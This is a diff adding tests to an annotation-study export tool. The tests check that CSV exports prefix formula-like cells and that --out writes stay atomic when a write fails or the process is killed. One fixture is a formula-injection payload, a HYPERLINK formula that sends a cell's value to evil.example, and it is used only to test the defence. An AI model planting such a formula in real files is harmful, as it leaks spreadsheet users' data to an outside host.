@@ -122,3 +122,123 @@ def test_judgment_scores_are_json_text_in_csv(session, built):
 def test_write_bad_format():
     with pytest.raises(ValueError, match="unknown format"):
         write_export(pd.DataFrame(), "xlsx")
+
+
+# --- issue 9: formula injection (finding 7) and atomic --out (finding 6)
+
+EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+
+
+def _study_with_formulas(engine) -> None:
+    """A study whose system name, output and comment start like spreadsheet formulas; every
+    pair rated by three annotators (a clear majority for DPO)."""
+    import csv as csv_mod
+
+    from annotate.assignment import next_assignment, submit_rating
+    from annotate.auth import create_user
+    from annotate.importing import import_sources
+    from annotate.studies import create_study
+    from foundation.db import unit_of_work
+
+    buf = io.StringIO()
+    w = csv_mod.writer(buf)
+    w.writerow(["prompt_id", "prompt", "system", "output"])
+    w.writerow(["p1", "Say hi", "@evil-sys", EVIL])
+    w.writerow(["p1", "Say hi", "good", "hi there"])
+    with unit_of_work(engine) as s:
+        study = create_study(s, name="formulas", k=3, seed=1)
+        import_sources(s, study=study, sources=[("o.csv", buf.getvalue().encode())])
+        users = [create_user(s, username=f"r{i}", password="pass1234-xyz") for i in range(3)]
+    scores = {
+        c: {"A": 3, "B": 3} for c in ("Accuracy", "Relevance", "Format compliance", "Fluency")
+    }
+    for u in users:
+        with unit_of_work(engine) as s:
+            a = next_assignment(s, study=study, user=u)
+            pref = "B" if a.swapped else "A"  # everyone prefers canonical side a
+            submit_rating(
+                s,
+                assignment_id=a.id,
+                user_id=u.id,
+                preference=pref,
+                scores=scores,
+                comment="+1 great",
+            )
+
+
+def test_csv_exports_neutralise_formulas_unless_turned_off(engine):
+    _study_with_formulas(engine)
+    from sqlmodel import Session
+
+    with Session(engine) as s:
+        ratings = export_frame(s, "formulas", "ratings")
+        dpo = export_frame(s, "formulas", "dpo")
+    assert len(dpo) == 1
+    safe = pd.read_csv(io.BytesIO(write_export(ratings, "csv")), dtype=str)
+    assert set(safe["comment"]) == {"'+1 great"}
+    assert "'@evil-sys" in set(safe["system_a"]) | set(safe["system_b"])
+    dpo_csv = pd.read_csv(io.BytesIO(write_export(dpo, "csv")), dtype=str)
+    assert "'" + EVIL in set(dpo_csv["chosen"]) | set(dpo_csv["rejected"])
+    assert not any(
+        str(v).startswith(("=", "+", "-", "@")) for v in dpo_csv.to_numpy().ravel() if v == v
+    )
+    raw = pd.read_csv(io.BytesIO(write_export(ratings, "csv", formula_guard=False)), dtype=str)
+    assert set(raw["comment"]) == {"+1 great"}
+    # JSONL keeps the text exactly as written.
+    row = json.loads(write_export(dpo, "jsonl").decode().splitlines()[0])
+    assert EVIL in (row["chosen"], row["rejected"])
+
+
+def test_cli_export_flag_and_atomic_out(engine, db_url, tmp_path, monkeypatch):
+    from typer.testing import CliRunner
+
+    from cli.main import app
+
+    _study_with_formulas(engine)
+    runner = CliRunner()
+    out = tmp_path / "ratings.csv"
+    res = runner.invoke(app, ["export", "formulas", "--out", str(out)])
+    assert res.exit_code == 0, res.output
+    assert "'+1 great" in out.read_text()
+    res = runner.invoke(app, ["export", "formulas", "--no-formula-guard", "--out", str(out)])
+    assert res.exit_code == 0 and "'+1 great" not in out.read_text()
+    before = out.read_bytes()
+
+    def disk_full(fd: int) -> None:  # the write fails after half the bytes are out
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr("os.fsync", disk_full)
+    res = runner.invoke(app, ["export", "formulas", "-f", "jsonl", "--out", str(out)])
+    assert res.exit_code != 0 and "No space left on device" in res.output
+    assert out.read_bytes() == before  # the earlier complete export is untouched
+    assert not list(tmp_path.glob(".ratings.csv*"))  # no temporary file left behind
+
+
+def test_kill_9_mid_export_keeps_the_previous_file(tmp_path):
+    """A process killed while writing leaves the old file whole (before: 0 bytes)."""
+    import os
+    import signal
+    import subprocess
+    import sys
+
+    target = tmp_path / "big.csv"
+    target.write_bytes(b"complete,earlier\n")
+    script = (
+        "import os, sys\n"
+        "from foundation.atomic import write_atomic\n"
+        "def stall(fd):\n"
+        "    print('writing', flush=True)\n"
+        "    sys.stdin.read()  # blocks until killed\n"
+        "os.fsync = stall\n"
+        f"write_atomic({str(target)!r}, b'x' * 50_000_000)\n"
+    )
+    proc = subprocess.Popen(
+        [sys.executable, "-c", script],
+        stdin=subprocess.PIPE,
+        stdout=subprocess.PIPE,
+        cwd=os.getcwd(),
+    )
+    assert proc.stdout.readline().strip() == b"writing"  # mid-write, bytes already out
+    proc.send_signal(signal.SIGKILL)
+    proc.wait()
+    assert target.read_bytes() == b"complete,earlier\n"
